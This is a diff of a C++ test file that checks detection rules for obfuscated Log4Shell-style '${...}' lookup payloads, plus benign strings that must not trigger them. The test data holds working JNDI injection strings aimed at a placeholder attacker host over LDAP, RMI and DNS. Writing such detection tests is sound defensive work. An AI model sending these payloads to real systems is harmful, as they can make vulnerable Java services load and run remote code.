@@ -128,6 +128,7 @@ TEST_CASE("lookup and expression rules rewritten for cost: payload forms still c
       {6501, "${x:-j}${y:-n}"},
       {6501, "${env:NaN:-j}ndi${env:NaN:-:}"},
       {6501, "${date:'j'}${date:'n'}"},
+      {6501, "${env:x(!#%{:-j}${env:y:-n}"},  // any key before a default value
       {6502, "${${::-j}${::-n}di:ldap://evil.example/a}"},
       {6502, "${jndi:rmi://evil.example/a}"},
       {6502, "${jndi:dns://evil.example}"},
@@ -147,7 +148,9 @@ TEST_CASE("lookup and expression rules rewritten for cost: payload forms still c
     INFO(id << " " << v);
     CHECK(Has(Matching(v), id));
   }
-  for (const char* v : {"price: ${amount}", "${HOME}/bin", "see ${ref} in", "${a}-${b}"}) {  // plain templates
+  // Plain templates, and a negative number or a smiley after a colon (not a `:-` default value).
+  for (const char* v : {"price: ${amount}", "${HOME}/bin", "see ${ref} in", "${a}-${b}", "{\"offset\":-1}",
+                        "ratio 3:-1", "{\"t\":-5},{\"u\":-6}", "temp {min:-5} max: 3", ":-) ok"}) {
     INFO(v);
     const auto ids = Matching(v);
     CHECK(!Has(ids, 6501));
